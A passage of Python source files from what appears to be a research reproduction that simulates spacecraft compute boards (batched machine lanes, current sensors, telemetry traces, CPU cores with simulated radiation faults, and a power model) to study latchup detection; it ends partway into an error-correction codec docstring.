                self._tails[li] = new_tails[li]
                self._energy[li] = self._energy[li] + total[li] * kernel.vdt
                # 6–7. ILD residual persistence
                q_lanes = np.nonzero(live & quiescent)[0]
                if q_lanes.size:
                    self._streak[q_lanes] += 1
                    pos = self._ring_pos[q_lanes]
                    old = self._rings[q_lanes, pos].copy()
                    self._rings[q_lanes, pos] = residual[q_lanes]
                    self._ring_pos[q_lanes] = (pos + 1) % window_ticks
                    deep = self._streak[q_lanes] > window_ticks
                    delta = np.where(
                        deep, residual[q_lanes] - old, residual[q_lanes]
                    )
                    self._run_sum[q_lanes] = self._run_sum[q_lanes] + delta
                    ready = self._streak[q_lanes] >= window_ticks
                    if ready.any():
                        r_lanes = q_lanes[ready]
                        mean = self._run_sum[r_lanes] / window_ticks
                        over = mean > self._mode_threshold[r_lanes]
                        onset = over & ~self._in_alarm[r_lanes]
                        if onset.any():
                            o_lanes = r_lanes[onset]
                            at = self._t[o_lanes] + cfg.dt
                            self._alarm_count[o_lanes] += 1
                            first = self._first_alarm[o_lanes]
                            self._first_alarm[o_lanes] = np.where(
                                np.isnan(first), at, first
                            )
                            o_means = mean[onset]
                            for j, lane in enumerate(o_lanes):
                                alarms.append(
                                    TickAlarm(
                                        lane=int(lane),
                                        tick=k,
                                        time=float(at[j]),
                                        mean_residual=float(o_means[j]),
                                    )
                                )
                        self._in_alarm[r_lanes] = over
                nq_lanes = np.nonzero(live & ~quiescent)[0]
                if nq_lanes.size:
                    self._streak[nq_lanes] = 0
                    self._run_sum[nq_lanes] = 0.0
                    self._ring_pos[nq_lanes] = 0
                    self._in_alarm[nq_lanes] = False
                # 8. clock + thermal deadline
                self._t[li] = self._t[li] + cfg.dt
                self._ticks_run[li] += 1
                newly_dead = live & (self._t >= self._deadline)
                for lane in np.nonzero(newly_dead)[0]:
                    self._dead[lane] = True
                    self._damaged[lane, :] = True
                    deaths.append(
                        TickDeath(
                            lane=int(lane), tick=k, time=float(self._t[lane])
                        )
                    )
        return TickRunReport(
            lanes=n, ticks=n_ticks, alarms=tuple(alarms), deaths=tuple(deaths)
        )

    # ------------------------------------------------------------------
    def machine(self, lane: int) -> Machine:
        """The lane's real :class:`Machine`, materialised if needed and
        synced to the lane's current engine state."""
        m = self._machines[lane]
        if m is None:
            m = Machine(self.spec, seed=0)
            m.rng = self._rngs[lane]
            self._machines[lane] = m
        self._sync_lane(m, lane)
        return m

    def _sync_lane(self, m: Machine, lane: int) -> None:
        m.clock.advance_to(float(self._t[lane]))
        kernel = self.kernel
        for c, core in enumerate(m.cores):
            counters = core.counters
            for j, name in enumerate(_COUNTER_FIELDS):
                setattr(counters, name, int(self._counters[lane, c, j]))
            core.busy_seconds = float(self._busy[lane, c])
            core.freq = kernel.level_floats[int(self._freq_idx[lane, c])]
            core.poisoned = bool(self._poisoned[lane, c])
            core.damaged = bool(self._damaged[lane, c])
        m.extra_current_draw = float(self._extra[lane])

    def sync(self) -> None:
        """Write engine state back into every materialised machine (all
        adopted machines, plus lanes touched via :meth:`machine`)."""
        for lane, m in enumerate(self._machines):
            if m is not None:
                self._sync_lane(m, lane)

    def peel(self, lanes) -> "list[FleetTicker]":
        """Remove lanes from the batch for scalar continuation.

        Each peeled lane is materialised into its :class:`Machine`
        (sharing the lane's RNG stream, so draws continue seamlessly)
        and wrapped in a :class:`FleetTicker` carrying the lane's
        :class:`TickState`. The batch never touches peeled lanes again.
        """
        tickers = []
        for lane in lanes:
            if self._peeled[lane]:
                raise SimulationError(f"lane {lane} is already peeled")
            m = self.machine(lane)
            state = self.lane_state(lane)
            self._peeled[lane] = True
            tickers.append(
                FleetTicker(
                    m,
                    self.config,
                    state=state,
                    lane_id=int(lane),
                    mode=self._lane_modes[lane],
                )
            )
        return tickers

    # ------------------------------------------------------------------
    def state_digest(self, lane: int) -> str:
        """Engine digest of one lane — comparable bit-for-bit with
        :meth:`FleetTicker.state_digest`."""
        return _engine_digest(
            self._rngs[lane].bit_generator.state,
            self._t[lane],
            self._freq_idx[lane],
            self._counters[lane],
            self._busy[lane],
            self._poisoned[lane],
            self._damaged[lane],
            self._extra[lane],
            self._reboots[lane],
            self._power_cycles[lane],
            self.lane_state(lane),
        )

    def lane_digests(self) -> "list[str]":
        return [self.state_digest(lane) for lane in range(self.n_lanes)]

    def __repr__(self) -> str:
        return (
            f"BatchMachines({self.spec.name!r}, {self.n_lanes} lanes, "
            f"{len(self.active_lanes)} active)"
        )
