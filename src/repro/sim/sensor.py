"""INA3221-style current sensor.

The sensor is where the SEL-detection problem gets hard: the *true*
board current is a clean function of activity, but what ILD sees is a
sampled, quantized, noisy measurement contaminated by microsecond
compute transients. The paper attacks the transients with a rolling
minimum over the ±250 µs around each measurement, dropping quiescent
σ from 0.14 A to 0.02 A (§3.1); the same filter lives in
:mod:`repro.core.ild.rolling_filter` and is evaluated against traces
produced here.

The sensor model:

* samples at ``sample_period`` (default 250 µs, four per 1 ms tick);
* adds Gaussian measurement/board noise (``noise_sigma``);
* with probability ``spike_probability`` per sample, a transient spike
  of 0.1–1.2 A rides on top (interrupts, housekeeping wakeups, power
  state switches);
* quantizes to the device LSB (1 mA for an INA3221-class part).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..errors import ConfigurationError


@dataclass(frozen=True)
class SensorParams:
    sample_period: float = 250e-6
    noise_sigma: float = 0.012
    spike_probability: float = 0.055
    spike_min: float = 0.10
    spike_max: float = 1.20
    lsb: float = 1e-3

    def __post_init__(self) -> None:
        if self.sample_period <= 0:
            raise ConfigurationError("sample_period must be positive")
        if not 0 <= self.spike_probability <= 1:
            raise ConfigurationError("spike_probability must be in [0, 1]")
        if self.spike_min > self.spike_max:
            raise ConfigurationError("spike_min must be <= spike_max")


class CurrentSensor:
    """Turns true current into measured samples."""

    def __init__(self, params: "SensorParams | None" = None) -> None:
        self.params = params or SensorParams()

    def sample(self, true_current: np.ndarray, rng: np.random.Generator) -> np.ndarray:
        """Measure an array of true currents (one sensor sample each)."""
        p = self.params
        true_current = np.asarray(true_current, dtype=float)
        measured = true_current + rng.normal(0.0, p.noise_sigma, true_current.shape)
        spikes = rng.random(true_current.shape) < p.spike_probability
        if spikes.any():
            magnitude = rng.uniform(p.spike_min, p.spike_max, int(spikes.sum()))
            measured[spikes] += magnitude
        measured = np.maximum(measured, 0.0)
        return np.round(measured / p.lsb) * p.lsb

    def oversample(
        self,
        tick_current: np.ndarray,
        samples_per_tick: int,
        rng: np.random.Generator,
    ) -> np.ndarray:
        """Expand per-tick true currents into fine sensor samples.

        Returns shape ``(len(tick_current) * samples_per_tick,)``. The
        true current is held constant within a tick (ticks are 1 ms;
        activity changes slower than that), but noise and spikes are
        drawn independently per fine sample — which is exactly the
        structure the rolling-minimum filter exploits.
        """
        if samples_per_tick <= 0:
            raise ConfigurationError("samples_per_tick must be positive")
        fine = np.repeat(np.asarray(tick_current, dtype=float), samples_per_tick)
        return self.sample(fine, rng)
