"""Vectorized telemetry traces for long-duration SEL experiments.

The ILD evaluation runs for hundreds of hours of simulated time at a
1 ms metric tick (§4.1) — far too many steps for the discrete
functional machine. This module generates statistically equivalent
traces directly: per-tick Table 1 counter frames, the true board
current implied by that activity (through the shared
:class:`~repro.sim.power.PowerModel`), SEL current steps, and the
fine-grained noisy sensor samples the rolling-minimum filter consumes.

A trace is built from :class:`ActivitySegment`\\ s — "quiescent for
170 s", "navigation workload burst for 90 s" — so spacecraft duty
cycles (bursty compute between comm windows, §3.1) are first-class.
Housekeeping chores (log rotation, interrupt storms) are injected into
quiescent segments: they move the *counters* as well as the current,
which is precisely the signal black-box detectors cannot use.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

import numpy as np

from ..errors import ConfigurationError
from .dvfs import OndemandGovernor
from .perfcounters import CounterFrame
from .power import PowerModel
from .sensor import CurrentSensor


@dataclass(frozen=True)
class TelemetryConfig:
    """Sampling geometry shared by every trace in an experiment."""

    tick: float = 1e-3  # counter sampling period (paper: 1 ms)
    samples_per_tick: int = 4  # sensor samples per tick (250 µs apart)
    n_cores: int = 4

    def __post_init__(self) -> None:
        if self.tick <= 0 or self.samples_per_tick <= 0 or self.n_cores <= 0:
            raise ConfigurationError("tick, samples_per_tick, n_cores must be positive")


@dataclass(frozen=True)
class ActivitySegment:
    """A span of homogeneous activity.

    ``core_util`` gives mean utilization per core in [0, 1]; per-tick
    samples jitter around it. ``quiescent`` marks the *ground truth*
    the paper's quiescence definition targets: "the target application
    not running or suspended, while normal OS or housekeeping tasks
    are still being run".
    """

    duration: float
    core_util: tuple
    label: str = "workload"
    quiescent: bool = False
    util_jitter: float = 0.04
    dram_gbs: float = 0.0
    disk_read_iops: float = 0.0
    disk_write_iops: float = 0.0
    branch_miss_rate: float = 0.03
    cache_hit_rate: float = 0.965
    #: Pin every core to this frequency instead of letting the governor
    #: pick one from utilization (used by the Fig 5 DVFS staircase).
    freq_override: "float | None" = None

    def __post_init__(self) -> None:
        if self.duration <= 0:
            raise ConfigurationError("segment duration must be positive")
        if any(not 0 <= u <= 1 for u in self.core_util):
            raise ConfigurationError("core_util entries must lie in [0, 1]")
        if self.freq_override is not None and self.freq_override <= 0:
            raise ConfigurationError("freq_override must be positive")


def quiescent_segment(duration: float, n_cores: int = 4) -> ActivitySegment:
    """The canonical idle segment: all cores near zero utilization."""
    return ActivitySegment(
        duration=duration,
        core_util=(0.012,) * n_cores,
        label="quiescent",
        quiescent=True,
        util_jitter=0.008,
        disk_read_iops=0.4,
        disk_write_iops=0.8,
    )


@dataclass(frozen=True)
class HousekeepingParams:
    """Background OS chores during quiescence (§2.1: "system tasks
    (e.g. log rotation, interrupts) that also cause current spikes")."""

    events_per_hour: float = 110.0
    min_duration: float = 0.05
    max_duration: float = 0.60
    min_util: float = 0.10
    max_util: float = 0.55
    disk_write_iops: float = 160.0

    def __post_init__(self) -> None:
        if self.min_duration > self.max_duration or self.min_util > self.max_util:
            raise ConfigurationError("housekeeping min/max ranges inverted")


@dataclass(frozen=True)
class CurrentStep:
    """A persistent additional current draw (an SEL), active on
    ``[start, end)`` in trace-local seconds. ``end=None`` = until the
    end of the trace (latchups do not clear on their own)."""

    start: float
    delta_amps: float
    end: "float | None" = None

    def active_mask(self, times: np.ndarray) -> np.ndarray:
        mask = times >= self.start
        if self.end is not None:
            mask &= times < self.end
        return mask


@dataclass
class TelemetryTrace:
    """A generated trace: counters + currents + ground-truth masks."""

    config: TelemetryConfig
    counters: CounterFrame
    true_current: np.ndarray  # (n_ticks,) activity current incl. SEL
    fine_samples: np.ndarray  # (n_ticks * samples_per_tick,) sensor output
    quiescent_truth: np.ndarray  # (n_ticks,) bool
    sel_delta: np.ndarray  # (n_ticks,) amps of SEL draw applied
    labels: np.ndarray  # (n_ticks,) int index into label_names
    label_names: list
    start_time: float = 0.0

    @property
    def n_ticks(self) -> int:
        return len(self.true_current)

    @property
    def duration(self) -> float:
        return self.n_ticks * self.config.tick

    def times(self) -> np.ndarray:
        """Tick timestamps (trace-local seconds, tick centers)."""
        return self.start_time + (np.arange(self.n_ticks) + 0.5) * self.config.tick

    @property
    def sel_active(self) -> np.ndarray:
        return self.sel_delta > 0

    def measured_per_tick(self) -> np.ndarray:
        """Unfiltered per-tick current: the last sensor sample of each
        tick (what a naive 1 kHz reader of the INA3221 would log)."""
        s = self.config.samples_per_tick
        return self.fine_samples[s - 1 :: s][: self.n_ticks]

    def label_mask(self, name: str) -> np.ndarray:
        try:
            index = self.label_names.index(name)
        except ValueError:
            return np.zeros(self.n_ticks, dtype=bool)
        return self.labels == index


class TraceGenerator:
    """Builds :class:`TelemetryTrace` objects from segment schedules."""

    def __init__(
        self,
        config: "TelemetryConfig | None" = None,
        power_model: "PowerModel | None" = None,
        sensor: "CurrentSensor | None" = None,
        governor: "OndemandGovernor | None" = None,
    ) -> None:
        self.config = config or TelemetryConfig()
        self.governor = governor or OndemandGovernor()
        max_freq = self.governor.spec.max_freq
        self.power_model = power_model or PowerModel(max_freq=max_freq)
        self.sensor = sensor or CurrentSensor()
        self._ipc = self.governor.spec.base_ipc
        self._bus_per_instr = self.governor.spec.bus_cycles_per_instruction

    @property
    def max_instruction_rate(self) -> float:
        """Per-core instruction rate at 100 % util, max frequency."""
        return self._ipc * self.governor.spec.max_freq

    def generate(
        self,
        segments: "list[ActivitySegment]",
        rng: np.random.Generator,
        current_steps: "list[CurrentStep] | None" = None,
        housekeeping: "HousekeepingParams | None" = HousekeepingParams(),
        extra_baseline_amps: float = 0.0,
        start_time: float = 0.0,
    ) -> TelemetryTrace:
        if not segments:
            raise ConfigurationError("need at least one segment")
        cfg = self.config
        tick_counts = [max(1, int(round(seg.duration / cfg.tick))) for seg in segments]
        n_ticks = sum(tick_counts)
        n_cores = cfg.n_cores

        util = np.empty((n_ticks, n_cores))
        miss = np.empty((n_ticks, n_cores))
        hit = np.empty((n_ticks, n_cores))
        dram = np.empty(n_ticks)
        disk_r = np.empty(n_ticks)
        disk_w = np.empty(n_ticks)
        quiescent = np.zeros(n_ticks, dtype=bool)
        labels = np.empty(n_ticks, dtype=np.int32)
        freq_override = np.full(n_ticks, np.nan)
        label_names: list = []

        row = 0
        for seg, count in zip(segments, tick_counts):
            sl = slice(row, row + count)
            if len(seg.core_util) != n_cores:
                raise ConfigurationError(
                    f"segment {seg.label!r} has {len(seg.core_util)} core utils; "
                    f"machine has {n_cores} cores"
                )
            base = np.asarray(seg.core_util)
            util[sl] = np.clip(
                base + rng.normal(0, seg.util_jitter, (count, n_cores)), 0, 1
            )
            miss[sl] = np.clip(
                seg.branch_miss_rate + rng.normal(0, 0.004, (count, n_cores)), 0, 1
            )
            hit[sl] = np.clip(
                seg.cache_hit_rate + rng.normal(0, 0.006, (count, n_cores)), 0, 1
            )
            dram[sl] = np.maximum(
                seg.dram_gbs + rng.normal(0, 0.02 + 0.05 * seg.dram_gbs, count), 0
            )
            disk_r[sl] = self._poisson_rate(seg.disk_read_iops, count, rng)
            disk_w[sl] = self._poisson_rate(seg.disk_write_iops, count, rng)
            quiescent[sl] = seg.quiescent
            if seg.freq_override is not None:
                freq_override[sl] = seg.freq_override
            if seg.label not in label_names:
                label_names.append(seg.label)
            labels[sl] = label_names.index(seg.label)
            if seg.quiescent and housekeeping is not None:
                self._inject_housekeeping(
                    util, disk_w, sl, housekeeping, rng
                )
            row += count

        freq = self.governor.steady_state_freq_array(util)
        pinned = ~np.isnan(freq_override)
        if pinned.any():
            freq[pinned] = freq_override[pinned, None]
        instr_rate = util * self._ipc * freq
        instr_rate *= np.clip(rng.normal(1.0, 0.02, instr_rate.shape), 0.85, 1.15)
        bus_rate = instr_rate * self._bus_per_instr

        counters = CounterFrame(
            instruction_rate=instr_rate,
            branch_miss_rate=miss,
            cpu_freq=freq,
            bus_cycle_rate=bus_rate,
            cache_hit_rate=hit,
            disk_read_ios=disk_r,
            disk_write_ios=disk_w,
        )

        true_current = self.power_model.board_current(
            util, freq, dram_gbs=dram, disk_iops=disk_r + disk_w,
            branch_miss_rate=miss.mean(axis=1),
        )
        true_current = true_current + extra_baseline_amps

        sel_delta = np.zeros(n_ticks)
        if current_steps:
            times = (np.arange(n_ticks) + 0.5) * cfg.tick
            for step in current_steps:
                sel_delta[step.active_mask(times)] += step.delta_amps
        true_current = true_current + sel_delta

        fine = self.sensor.oversample(true_current, cfg.samples_per_tick, rng)
        return TelemetryTrace(
            config=cfg,
            counters=counters,
            true_current=true_current,
            fine_samples=fine,
            quiescent_truth=quiescent,
            sel_delta=sel_delta,
            labels=labels,
            label_names=label_names,
            start_time=start_time,
        )

    def _poisson_rate(
        self, iops: float, count: int, rng: np.random.Generator
    ) -> np.ndarray:
        """Per-tick IO rates: Poisson counts per tick scaled to IOs/s."""
        if iops <= 0:
            return np.zeros(count)
        lam = iops * self.config.tick
        return rng.poisson(lam, count) / self.config.tick

    def _inject_housekeeping(
        self,
        util: np.ndarray,
        disk_w: np.ndarray,
        segment_slice: slice,
        params: HousekeepingParams,
        rng: np.random.Generator,
    ) -> None:
        cfg = self.config
        count = segment_slice.stop - segment_slice.start
        duration_s = count * cfg.tick
        n_events = rng.poisson(params.events_per_hour * duration_s / 3600.0)
        for _ in range(n_events):
            length = int(
                rng.uniform(params.min_duration, params.max_duration) / cfg.tick
            )
            if length < 1 or count < 2:
                continue
            start = int(rng.integers(0, max(1, count - length)))
            core = int(rng.integers(0, util.shape[1]))
            level = rng.uniform(params.min_util, params.max_util)
            rows = slice(segment_slice.start + start, segment_slice.start + start + length)
            util[rows, core] = np.clip(util[rows, core] + level, 0, 1)
            disk_w[rows] += params.disk_write_iops


def burst_schedule(
    total_duration: float,
    burst_duration: float,
    burst_period: float,
    burst_segment: ActivitySegment,
    n_cores: int = 4,
) -> "list[ActivitySegment]":
    """Spacecraft duty cycle: quiescence punctuated by compute bursts.

    ``burst_period`` is the start-to-start interval; the remainder of
    each period is quiescent. Models the paper's "work in bursts due to
    the unpredictable and short communication windows" pattern.
    """
    if burst_duration >= burst_period:
        raise ConfigurationError("burst_duration must be < burst_period")
    if total_duration <= 0:
        raise ConfigurationError("total_duration must be positive")
    segments: list = []
    elapsed = 0.0
    while elapsed < total_duration:
        busy = min(burst_duration, total_duration - elapsed)
        segments.append(replace(burst_segment, duration=busy))
        elapsed += busy
        if elapsed >= total_duration:
            break
        idle = min(burst_period - burst_duration, total_duration - elapsed)
        segments.append(quiescent_segment(idle, n_cores))
        elapsed += idle
    return segments
