"""Simulated CPU cores.

A core is a timing and accounting engine: jobs charge it instructions,
branches, and cache traffic; the core converts them to cycles and
simulated seconds at its current DVFS frequency, and exposes the raw
event counts that :mod:`repro.sim.perfcounters` turns into the
OS-visible rates of Table 1.

EMR pins each executor to a *core group* (§3.2, "EMR reserves a full
core, or set of cores, for each executor instance"), so per-core state
— including a latched SEU in an ALU, modeled as
:attr:`Core.poisoned` — is isolated to one executor.
"""

from __future__ import annotations

from dataclasses import dataclass, fields

from ..errors import ConfigurationError, HardwareDamagedError, InvalidAddressError
from .faults import FaultRegion, flip_int_bit


@dataclass(frozen=True)
class CoreSpec:
    """Microarchitectural parameters of one core (Cortex-A53-like)."""

    base_ipc: float = 1.2
    freq_levels: tuple = tuple(600e6 + 100e6 * i for i in range(9))  # 0.6–1.4 GHz
    l1_hit_cycles: int = 4
    l2_hit_cycles: int = 14
    dram_fill_cycles: int = 120
    branch_miss_penalty_cycles: int = 13
    bus_cycles_per_instruction: float = 0.35

    def __post_init__(self) -> None:
        if self.base_ipc <= 0:
            raise ConfigurationError("base_ipc must be positive")
        if not self.freq_levels or any(f <= 0 for f in self.freq_levels):
            raise ConfigurationError("freq_levels must be positive")
        if tuple(sorted(self.freq_levels)) != tuple(self.freq_levels):
            raise ConfigurationError("freq_levels must be sorted ascending")

    @property
    def min_freq(self) -> float:
        return self.freq_levels[0]

    @property
    def max_freq(self) -> float:
        return self.freq_levels[-1]


@dataclass
class CoreCounters:
    """Raw hardware event counts (monotonic, like real PMU counters)."""

    instructions: int = 0
    cycles: int = 0
    bus_cycles: int = 0
    branches: int = 0
    branch_misses: int = 0
    cache_references: int = 0
    cache_hits: int = 0

    def snapshot(self) -> "CoreCounters":
        return CoreCounters(
            self.instructions,
            self.cycles,
            self.bus_cycles,
            self.branches,
            self.branch_misses,
            self.cache_references,
            self.cache_hits,
        )

    def delta(self, earlier: "CoreCounters") -> "CoreCounters":
        return CoreCounters(
            self.instructions - earlier.instructions,
            self.cycles - earlier.cycles,
            self.bus_cycles - earlier.bus_cycles,
            self.branches - earlier.branches,
            self.branch_misses - earlier.branch_misses,
            self.cache_references - earlier.cache_references,
            self.cache_hits - earlier.cache_hits,
        )


@dataclass(frozen=True)
class CoreSnapshot:
    """Dynamic state of one core (spec is static, held by the machine)."""

    core_id: int
    freq: float
    counters: CoreCounters
    busy_seconds: float
    poisoned: bool
    damaged: bool


@dataclass
class ExecutionCost:
    """Simulated time (and cycles) one burst of work consumed."""

    seconds: float
    cycles: int


class Core:
    """One simulated CPU core."""

    def __init__(self, core_id: int, spec: "CoreSpec | None" = None) -> None:
        self.core_id = core_id
        self.spec = spec or CoreSpec()
        self.freq = self.spec.min_freq
        self.counters = CoreCounters()
        self.busy_seconds = 0.0
        #: Set when an SEU latches into the core's datapath: results
        #: computed on a poisoned core are corrupted (see radiation.seu).
        self.poisoned = False
        #: Set when an SEL burned the core out; further use raises.
        self.damaged = False

    def set_freq(self, freq: float) -> None:
        if freq not in self.spec.freq_levels:
            raise ConfigurationError(
                f"frequency {freq:g} Hz is not a DVFS level of core {self.core_id}"
            )
        self.freq = freq

    def execute(
        self,
        instructions: int,
        branch_fraction: float = 0.12,
        branch_miss_rate: float = 0.03,
        l1_hits: int = 0,
        l2_hits: int = 0,
        memory_fills: int = 0,
    ) -> ExecutionCost:
        """Charge a burst of retired instructions plus memory traffic.

        Returns the simulated time the burst took at the current
        frequency. The caller advances the clock (or its executor's
        busy-time accumulator) by ``cost.seconds``.
        """
        if self.damaged:
            raise HardwareDamagedError(f"core {self.core_id} is burned out")
        if instructions < 0:
            raise ConfigurationError("instruction count must be >= 0")
        spec = self.spec
        branches = int(instructions * branch_fraction)
        misses = int(branches * branch_miss_rate)
        cycles = instructions / spec.base_ipc
        cycles += misses * spec.branch_miss_penalty_cycles
        cycles += l1_hits * spec.l1_hit_cycles
        cycles += l2_hits * spec.l2_hit_cycles
        cycles += memory_fills * spec.dram_fill_cycles
        cycles = int(cycles) + 1
        seconds = cycles / self.freq

        c = self.counters
        c.instructions += instructions
        c.cycles += cycles
        c.bus_cycles += int(instructions * spec.bus_cycles_per_instruction)
        c.branches += branches
        c.branch_misses += misses
        c.cache_references += l1_hits + l2_hits + memory_fills
        c.cache_hits += l1_hits + l2_hits
        self.busy_seconds += seconds
        return ExecutionCost(seconds=seconds, cycles=cycles)

    def reset_faults(self) -> None:
        """A power cycle clears latched pipeline state (not SEL damage)."""
        self.poisoned = False

    # -- fault domain (see repro.sim.faults) --------------------------
    def fault_census(self) -> "tuple[FaultRegion, ...]":
        """Core-private state a particle can latch into: the datapath
        (one poison latch standing in for flip-flops in flight) and the
        PMU counter bank (7 monotonic 64-bit counters)."""
        return (
            FaultRegion("pipeline", 1, protection="none", scope="private",
                        die_bucket="pipelines"),
            FaultRegion("counters", len(fields(CoreCounters)) * 64,
                        protection="none", scope="private",
                        die_bucket="pipelines"),
        )

    def fault_strike(self, region: str, offset: int, bit: int) -> str:
        if region == "pipeline":
            if offset != 0:
                raise InvalidAddressError(
                    f"core {self.core_id}: pipeline latch has one bit"
                )
            self.poisoned = True
            return f"core {self.core_id} pipeline poisoned"
        if region == "counters":
            names = [f.name for f in fields(CoreCounters)]
            index = offset // 8
            if not 0 <= index < len(names):
                raise InvalidAddressError(
                    f"core {self.core_id}: counter offset {offset} out of range"
                )
            position = (offset % 8) * 8 + (bit & 7)
            value = getattr(self.counters, names[index])
            setattr(self.counters, names[index], flip_int_bit(value, position))
            return f"core {self.core_id} counter {names[index]} bit {position}"
        raise InvalidAddressError(
            f"core {self.core_id}: no fault region {region!r}"
        )

    def snapshot(self) -> CoreSnapshot:
        return CoreSnapshot(
            core_id=self.core_id,
            freq=self.freq,
            counters=self.counters.snapshot(),
            busy_seconds=self.busy_seconds,
            poisoned=self.poisoned,
            damaged=self.damaged,
        )

    def restore(self, snap: CoreSnapshot) -> None:
        if snap.core_id != self.core_id:
            raise ConfigurationError(
                f"snapshot of core {snap.core_id} cannot restore core "
                f"{self.core_id}"
            )
        self.freq = snap.freq
        self.counters = snap.counters.snapshot()
        self.busy_seconds = snap.busy_seconds
        self.poisoned = snap.poisoned
        self.damaged = snap.damaged

    def __repr__(self) -> str:
        flags = "".join(
            flag
            for flag, on in (("P", self.poisoned), ("D", self.damaged))
            if on
        )
        return f"Core({self.core_id}, {self.freq / 1e6:.0f}MHz{',' + flags if flags else ''})"


@dataclass(frozen=True)
class CoreGroup:
    """A set of core ids reserved for one executor."""

    group_id: int
    core_ids: tuple

    def __post_init__(self) -> None:
        if not self.core_ids:
            raise ConfigurationError("a core group needs at least one core")
