"""Board power model: activity -> current draw, and energy accounting.

The model is calibrated to the magnitudes the paper reports for its
Raspberry Pi Zero 2 W testbed:

* quiescent draw ≈ 1.70 A, full 4-core load ≈ 4.5 A ("normal current
  draw ranges from 1.7–4.5 A on a commodity ARM SoC", §2.1);
* raw quiescent standard deviation ≈ 0.14 A, dominated by transient
  compute spikes lasting microseconds (§3.1);
* a micro-SEL adds a *persistent* step as small as 0.07 A [45].

Per-core current scales with utilization and super-linearly with
frequency (dynamic power ∝ f·V², and V rises with f), which is what
makes black-box thresholding hopeless: DVFS swings dwarf the SEL step.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..errors import ConfigurationError


@dataclass(frozen=True)
class PowerModelParams:
    """Calibration constants for :class:`PowerModel`."""

    supply_voltage: float = 5.0
    idle_current: float = 1.70  # board draw with all cores at min freq, idle
    core_max_current: float = 0.62  # one core, 100 % util at max freq
    freq_exponent: float = 1.6  # current ∝ (f / f_max) ** exponent
    static_freq_current: float = 0.06  # per core: clock tree cost at max freq
    dram_current_per_gbs: float = 0.11  # amps per GB/s of DRAM traffic
    disk_current_per_kiops: float = 0.25  # amps per 1000 IO/s
    branch_miss_current: float = 0.02  # extra amps at 100 % miss rate, full load

    def __post_init__(self) -> None:
        if self.supply_voltage <= 0 or self.idle_current < 0:
            raise ConfigurationError("voltage/idle current must be positive")


class PowerModel:
    """Deterministic part of the board's current draw.

    The *measurement* noise and microsecond transient spikes live in
    :mod:`repro.sim.sensor`; radiation-induced extra draw is added by
    :mod:`repro.radiation.sel`. This class is pure activity -> amps.
    """

    def __init__(self, params: "PowerModelParams | None" = None, max_freq: float = 1.4e9):
        self.params = params or PowerModelParams()
        if max_freq <= 0:
            raise ConfigurationError("max_freq must be positive")
        self.max_freq = max_freq

    def core_current(self, utilization, freq) -> np.ndarray:
        """Current of one core (vectorized over arrays)."""
        p = self.params
        utilization = np.clip(np.asarray(utilization, dtype=float), 0.0, 1.0)
        rel_freq = np.asarray(freq, dtype=float) / self.max_freq
        dynamic = p.core_max_current * utilization * rel_freq**p.freq_exponent
        static = p.static_freq_current * rel_freq
        return dynamic + static

    def board_current(
        self,
        core_utilization: np.ndarray,
        core_freq: np.ndarray,
        dram_gbs=0.0,
        disk_iops=0.0,
        branch_miss_rate=0.0,
    ) -> np.ndarray:
        """Total board current.

        ``core_utilization``/``core_freq`` have shape ``(..., n_cores)``;
        the trailing axis is summed. The other terms broadcast over the
        leading axes.
        """
        p = self.params
        per_core = self.core_current(core_utilization, core_freq)
        total = p.idle_current + per_core.sum(axis=-1)
        util_mean = np.clip(np.asarray(core_utilization, dtype=float), 0, 1).mean(axis=-1)
        total = total + p.dram_current_per_gbs * np.asarray(dram_gbs, dtype=float)
        total = total + p.disk_current_per_kiops * np.asarray(disk_iops, dtype=float) / 1e3
        total = total + p.branch_miss_current * np.asarray(branch_miss_rate, dtype=float) * util_mean
        return total

    def quiescent_current(self, n_cores: int, min_freq: float) -> float:
        """Expected draw with every core idle at minimum frequency."""
        util = np.zeros(n_cores)
        freq = np.full(n_cores, min_freq)
        return float(self.board_current(util, freq))

    def max_current(self, n_cores: int) -> float:
        """Expected draw with every core saturated at maximum frequency."""
        util = np.ones(n_cores)
        freq = np.full(n_cores, self.max_freq)
        return float(self.board_current(util, freq, dram_gbs=1.5))


@dataclass
class EnergyReport:
    """Joules consumed by one run, split by source."""

    idle_joules: float
    core_joules: float
    dram_joules: float
    disk_joules: float

    @property
    def total_joules(self) -> float:
        return self.idle_joules + self.core_joules + self.dram_joules + self.disk_joules


class EnergyMeter:
    """Integrates the power model over a run's activity summary.

    The EMR experiments need relative energy (Fig 14), which is the
    integral of current × voltage over the run. Rather than tick the
    power model, the meter takes the run's aggregate activity — wall
    time, per-core busy time, DRAM bytes moved, disk IOs — and applies
    the same coefficients analytically.
    """

    def __init__(self, model: "PowerModel | None" = None) -> None:
        self.model = model or PowerModel()

    def measure(
        self,
        wall_seconds: float,
        core_busy_seconds: "dict[int, float] | list[float]",
        dram_bytes: int = 0,
        disk_ios: int = 0,
        busy_freq: "float | None" = None,
    ) -> EnergyReport:
        if wall_seconds < 0:
            raise ConfigurationError("wall time must be >= 0")
        p = self.model.params
        v = p.supply_voltage
        busy_freq = busy_freq if busy_freq is not None else self.model.max_freq
        rel = busy_freq / self.model.max_freq
        per_core_current = (
            p.core_max_current * rel**p.freq_exponent + p.static_freq_current * rel
        )
        busy_values = (
            list(core_busy_seconds.values())
            if isinstance(core_busy_seconds, dict)
            else list(core_busy_seconds)
        )
        for busy in busy_values:
            if busy < 0:
                raise ConfigurationError("core busy time must be >= 0")
        idle_joules = v * p.idle_current * wall_seconds
        core_joules = v * per_core_current * sum(busy_values)
        dram_joules = v * p.dram_current_per_gbs * (dram_bytes / 1e9)
        disk_joules = v * p.disk_current_per_kiops * disk_ios * 1e-3 * 0.002
        return EnergyReport(idle_joules, core_joules, dram_joules, disk_joules)
