"""SECDED Hamming(72, 64) error-correction codec.

Commodity flash (and much commodity DRAM) protects each 64-bit word
with 8 check bits: an extended Hamming code that corrects any single
bit error and detects any double bit error (SECDED). Radshield's
*reliability frontier* (§3.2) rests entirely on this property, so the
reproduction implements the real code rather than faking it with a
"corrupted" flag.

Layout
------
Codeword bit positions are indexed 0..71:

* position 0 holds the overall parity bit (the SECDED extension),
* positions 1, 2, 4, 8, 16, 32, 64 hold the Hamming parity bits,
* the remaining 64 positions hold data bits in ascending order.

Decoding computes the Hamming syndrome ``s`` (the XOR of the positions
of all set bits, restricted to positions >= 1) and the overall parity:

===========  ==============  =====================================
syndrome     overall parity  meaning
===========  ==============  =====================================
0            even            no error
0            odd             error in the overall parity bit
